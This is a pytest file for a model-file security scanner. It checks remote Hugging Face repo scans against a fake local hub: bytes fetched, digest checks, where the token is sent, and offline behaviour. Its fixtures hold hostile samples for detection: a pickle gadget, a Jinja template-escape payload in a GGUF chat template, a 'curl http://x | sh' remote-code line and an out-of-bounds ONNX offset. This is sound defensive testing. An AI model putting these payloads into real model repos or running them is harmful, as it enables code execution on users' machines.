"""hf:// repos read from a hub on loopback (tests/targets/fakehub.py): same verdict as the same
files in a local hub cache, a small fraction of the bytes, LFS digests checked, credentials kept
to the hub's origin, and --offline never opening a socket."""

from __future__ import annotations

import io
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from tests.scanners.serial_cases import GADGETS
from tests.targets import fakehub
from tests.targets.hubcache import write_repo

REPO = "org/remote"


def safetensors_file(n_floats: int, seed: int) -> bytes:
    """A real safetensors file written by the safetensors library."""
    from safetensors.numpy import save

    rng = np.random.default_rng(seed)
    return save(
        {
            "embed.weight": rng.standard_normal(n_floats, dtype=np.float32).reshape(-1, 64),
            "head.bias": np.zeros(64, dtype=np.float32),
        },
        metadata={"format": "np"},
    )


def gguf_file(n_floats: int, template: str) -> bytes:
    """A real GGUF file written by the gguf library, chat template included."""
    import tempfile

    import gguf

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_chat_template(template)
        writer.add_tensor("tok_embd.weight", np.ones((n_floats // 64, 64), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def weights_repo() -> dict[str, bytes]:
    """A clean model whose weights are two safetensors shards (32 MB in all)."""
    index = {"weight_map": {"embed.weight": "model-00001-of-00002.safetensors"}}
    return {
        "config.json": b'{"model_type": "bert", "architectures": ["BertModel"]}\n',
        "README.md": b"---\nlicense: apache-2.0\nlibrary_name: transformers\n---\n# remote\n",
        "model-00001-of-00002.safetensors": safetensors_file(4_000_000, 1),
        "model-00002-of-00002.safetensors": safetensors_file(4_000_000, 2),
        "model.safetensors.index.json": json.dumps(index).encode(),
        "tokenizer/vocab.txt": b"hello\nworld\n",
    }


def mixed_repo() -> dict[str, bytes]:
    """Weights, a malicious pickle, a GGUF whose chat template reaches Python, remote code."""
    escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    return {
        **weights_repo(),
        "training_args.bin": GADGETS[0][1],
        "model.gguf": gguf_file(500_000, escape),
        "modeling_remote.py": b"import os\nos.system('curl http://x | sh')\n",
    }


@pytest.fixture
def hub() -> Iterator[fakehub.FakeHub]:
    with fakehub.running() as state:
        yield state


def hub_env(hub: fakehub.FakeHub, tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "PETGOV_"))}
    env.update(
        HF_ENDPOINT=hub.hub_url,
        HF_HOME=str(tmp_path / "hf-home"),
        HF_HUB_CACHE=str(tmp_path / "empty-cache"),
        NO_PROXY="127.0.0.1",
        **extra,
    )
    return env


def verdict(report: dict[str, Any]) -> list[tuple[str, str, str]]:
    return sorted((f["rule_id"], f["path"], f["severity"]) for f in report["findings"])


def remote_then_cached(
    hub: fakehub.FakeHub, files: dict[str, bytes], tmp_path: Path, cli: Callable[..., Any]
) -> tuple[str, Any, Any]:
    """(target, JSON scan of the repo read from the hub by range, JSON scan of the same commit
    from a local Hugging Face cache): the two a remote scan must agree on."""
    commit = hub.add(REPO, files)
    target = f"hf://{REPO}@{commit}"
    remote = cli("scan", target, "-f", "json", "--no-cache", env=hub_env(hub, tmp_path))
    cache = tmp_path / "cache"
    write_repo(cache, REPO, files, commit=commit)
    env = {**hub_env(hub, tmp_path), "HF_HUB_CACHE": str(cache)}
    return target, remote, cli("scan", target, "--no-cache", "-f", "json", env=env)


def test_remote_repo_verdict_equals_the_cached_copy_and_pickles_are_read_whole(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    files = mixed_repo()
    target, remote, local = remote_then_cached(hub, files, tmp_path, cli)
    assert remote.code == 1, remote.stderr  # the pickle and the template fail the gate
    assert local.code == 1, local.stderr
    remote_doc, local_doc = remote.json(), local.json()
    assert verdict(remote_doc) == verdict(local_doc)
    rules = {r for r, _, _ in verdict(remote_doc)}
    assert {"PG-SER-001", "PG-SER-312", "PG-RC-003"} <= rules  # pickle, template, remote code
    assert remote_doc["facts"][target]["hf.read_from"] == "hub"
    assert local_doc["facts"][target]["hf.read_from"] == "cache"
    items = {i["path"].rsplit("/", 1)[-1]: i for i in remote_doc["items"]}
    local_items = {i["path"].rsplit("/", 1)[-1]: i for i in local_doc["items"]}
    assert {k: v["sha256"] for k, v in items.items()} == {
        k: v["sha256"] for k, v in local_items.items()
    }
    facts = remote_doc["facts"][target]
    # The pickle, configs and code were downloaded whole and checked; weights were not.
    assert facts["remote.files_whole"] == len(files) - 3
    assert facts["remote.files_partial"] == 3  # two safetensors shards and the GGUF
    weights = sum(len(v) for k, v in files.items() if k.endswith((".safetensors", ".gguf")))
    assert facts["remote.bytes_fetched"] < 0.05 * weights
    assert any("fetched" in n and "judged from header ranges" in n for n in remote_doc["notes"])


def test_safetensors_repo_costs_under_one_percent_of_its_bytes(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    files = weights_repo()
    commit = hub.add(REPO, files)
    target = f"hf://{REPO}@{commit}"
    res = cli("scan", target, "-f", "json", env=hub_env(hub, tmp_path))
    assert res.code == 0, res.stderr
    doc = res.json()
    repo_bytes = sum(len(v) for v in files.values())
    facts = doc["facts"][target]
    assert facts["remote.listed_bytes"] == repo_bytes
    served_files = hub.bytes_sent - _listing_bytes(hub)
    assert served_files == facts["remote.bytes_fetched"]  # the meter counts what was served
    assert hub.bytes_sent < 0.01 * repo_bytes, (hub.bytes_sent, repo_bytes)
    # The shards' digests are the hub's LFS sha256, marked as server-reported.
    shard = f"{target}/model-00001-of-00002.safetensors"
    item = next(i for i in doc["items"] if i["path"] == shard)
    import hashlib

    assert item["sha256"] == hashlib.sha256(files["model-00001-of-00002.safetensors"]).hexdigest()
    assert facts["hf.digests_server_reported"] == 2
    assert facts["remote.digests_server_reported"] == 2
    assert not [f for f in doc["findings"] if f["severity"] in ("medium", "high", "critical")]


def _listing_bytes(hub: fakehub.FakeHub) -> int:
    """Bytes of the API answers (everything the hub sent that is not a file's content)."""
    return sum(
        len(json.dumps(_listing_doc(hub, path)).encode())
        for method, path, _ in hub.hub.requests
        if path.startswith("/api/")
    )


def _listing_doc(hub: fakehub.FakeHub, path: str) -> dict[str, Any]:
    repo = next(iter(hub.repos.values()))
    return {
        "id": REPO,
        "sha": repo.commit,
        "private": repo.private,
        "siblings": fakehub.siblings(repo.files),
    }


def test_digests_all_downloads_and_checks_every_file(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    files = weights_repo()
    commit = hub.add(REPO, files)
    target = f"hf://{REPO}@{commit}"
    res = cli("scan", target, "-f", "json", "--digests", "all", env=hub_env(hub, tmp_path))
    assert res.code == 0, res.stderr
    facts = res.json()["facts"][target]
    assert facts["remote.files_partial"] == 0
    assert facts["remote.bytes_fetched"] >= sum(len(v) for v in files.values())
    assert facts["hf.blobs_verified"] == len(files)


def test_tampered_lfs_pickle_is_refused_not_judged(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    """The CDN serves other bytes than the hub's LFS sha256: nothing is judged on them."""
    import hashlib

    files = {"config.json": b"{}\n", "training_args.bin": b"\x80\x04K\x01."}
    commit = hub.add(REPO, files)
    hub.tampered[hashlib.sha256(files["training_args.bin"]).hexdigest()] = b"\x80\x04K\x02."
    res = cli("scan", f"hf://{REPO}@{commit}", env=hub_env(hub, tmp_path))
    assert res.code == 2
    assert "training_args.bin" in res.stderr and "the server reports" in res.stderr
    assert res.stderr.count("\n") <= 2  # the line and its hint


def test_token_goes_to_the_hub_never_to_the_cdn(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    commit = hub.add(REPO, weights_repo(), private=True)
    target = f"hf://{REPO}@{commit}"
    denied = cli("scan", target, env=hub_env(hub, tmp_path))
    assert denied.code == 2 and "HTTP 401" in denied.stderr
    res = cli("scan", target, env=hub_env(hub, tmp_path, HF_TOKEN=hub.token))
    assert res.code == 0, res.stderr
    assert all(h.get("Authorization") == f"Bearer {hub.token}" for _, _, h in hub.hub.requests[1:])
    assert hub.cdn.requests and not any("Authorization" in h for _, _, h in hub.cdn.requests)


def test_branch_resolves_to_a_commit_and_stays_a_finding(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    commit = hub.add(REPO, weights_repo())
    res = cli("scan", f"hf://{REPO}@main", "-f", "json", env=hub_env(hub, tmp_path))
    assert res.code == 0, res.stderr
    doc = res.json()
    assert doc["facts"][f"hf://{REPO}@main"]["hf.commit"] == commit
    unpinned = [f for f in doc["findings"] if "branch or tag" in f["message"]]
    assert unpinned and "on the hub" in unpinned[0]["message"]
    # every file was read at the commit, never at the moving branch
    resolves = [p for _, p, _ in hub.hub.requests if "/resolve/" in p]
    assert resolves and all(f"/resolve/{commit}/" in p for p in resolves)


def test_lock_online_then_scan_against_it(
    hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    files = weights_repo()
    commit = hub.add(REPO, files)
    env = hub_env(hub, tmp_path)
    lock = tmp_path / "petgov.lock"
    made = cli("lock", f"hf://{REPO}@main", "-o", str(lock), env=env)
    assert made.code == 0, made.stderr
    doc = json.loads(lock.read_text())
    assert doc["commit"] == commit and set(doc["files"]) == set(files)
    import hashlib

    assert doc["files"] == {k: hashlib.sha256(v).hexdigest() for k, v in files.items()}
    assert "as the hub reports" in made.stdout + made.stderr
    res = cli("scan", f"hf://{REPO}@{commit}", "--lock", str(lock), "-f", "json", env=env)
    assert res.code == 0, res.stderr
    assert res.json()["facts"][f"hf://{REPO}@{commit}"]["hf.lock_verified"] is True
    # a repo that moved on: the lock's commit no longer matches main
    hub.add(REPO, {**files, "config.json": b'{"model_type": "gpt2"}\n'})
    moved = cli("scan", f"hf://{REPO}@main", "--lock", str(lock), "-f", "json", env=env)
    assert any(f["rule_id"] and "pins commit" in f["message"] for f in moved.json()["findings"])


def test_offline_miss_is_one_line_and_opens_no_socket(
    tmp_path: Path, cli: Callable[..., Any], no_network: list[str]
) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "PETGOV_"))}
    env["HF_HUB_CACHE"] = str(tmp_path / "cache")
    target = "hf://org/name@" + "0123456789abcdef" * 2 + "01234567"
    for args, switch in (
        (("--offline",), "--offline"),
        ((), "HF_HUB_OFFLINE"),
    ):
        run_env = env if args else {**env, "HF_HUB_OFFLINE": "1"}
        res = cli("scan", target, *args, env=run_env)
        assert res.code == 2, res.stderr
        assert "not in the local Hugging Face cache" in res.stderr and switch in res.stderr
        assert res.stderr.count("\n") <= 2
    assert no_network == []


def test_unreachable_hub_is_one_line(tmp_path: Path, cli: Callable[..., Any]) -> None:
    """Naming a remote is consent: one attempt, and a refused connection is one line, exit 2."""
    import socket

    with socket.socket() as probe:  # a loopback port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "PETGOV_"))}
    env.update(HF_HUB_CACHE=str(tmp_path / "cache"), HF_ENDPOINT=f"http://127.0.0.1:{port}")
    res = cli("scan", "hf://org/name@main", env=env)
    assert res.code == 2
    assert res.stderr.startswith("error: hf://org/name@main: cannot list the repo at http://")
    assert "cannot reach" in res.stderr and res.stderr.count("\n") <= 2


def test_range_reader_serves_parsers_from_few_requests(hub: fakehub.FakeHub) -> None:
    """The GGUF parser's many small reads become a handful of growing range requests."""
    from petgov.formats.gguf import read_header
    from petgov.targets.remote.ranged import Meter, RemoteFile
    from petgov.targets.remote.web import get_range

    data = gguf_file(2_000_000, "{{ messages }}")
    commit = hub.add(REPO, {"m.gguf": data})
    url = f"{hub.hub_url}/{REPO}/resolve/{commit}/m.gguf"
    meter = Meter()
    source = RemoteFile("m.gguf", len(data), lambda lo, hi: get_range(url, lo, hi), meter)
    with source.open() as fh:
        header = read_header(fh, source.size)
    assert header.chat_templates() == {"tokenizer.chat_template": "{{ messages }}"}
    assert meter.requests <= 3 and meter.fetched < 0.02 * len(data)
    with source.open() as fh:  # cached: a second parse costs nothing
        fh.seek(-10, io.SEEK_END)
        assert fh.read() == data[-10:]
    assert source.partial()


def onnx_files(past_end: bool) -> dict[str, bytes]:
    """A real ONNX model (onnx library) whose weights sit in an external file, weights.bin;
    ``past_end`` points the tensor past the end of that file (a loader-attack shape)."""
    import tempfile

    import onnx
    from onnx import TensorProto, helper, numpy_helper
    from onnx.external_data_helper import convert_model_to_external_data

    w = numpy_helper.from_array(np.ones((1024, 256), dtype=np.float32), "w")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1024])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 256])],
        [w],
    )
    model = helper.make_model(graph)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.onnx"
        convert_model_to_external_data(
            model, all_tensors_to_one_file=True, location="weights.bin", size_threshold=0
        )
        onnx.save_model(model, str(path))
        if past_end:
            saved = onnx.load(str(path), load_external_data=False)
            for entry in saved.graph.initializer[0].external_data:
                if entry.key == "offset":
                    entry.value = str(10**9)
            onnx.save_model(saved, str(path))
        return {p.name: p.read_bytes() for p in Path(tmp).iterdir()}


@pytest.mark.parametrize("past_end", [False, True])
def test_onnx_with_external_data_is_judged_without_its_weights(
    past_end: bool, hub: fakehub.FakeHub, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    files = onnx_files(past_end)
    target, remote, local = remote_then_cached(hub, files, tmp_path, cli)
    assert remote.code == local.code, remote.stderr
    assert verdict(remote.json()) == verdict(local.json())
    past = [f for f in remote.json()["findings"] if f["rule_id"].startswith("PG-SER")]
    assert bool(past) is past_end
    facts = remote.json()["facts"][target]
    assert facts["remote.files_partial"] == 1  # weights.bin: its first 64 KiB only
    assert facts["remote.bytes_fetched"] < 0.1 * len(files["weights.bin"])
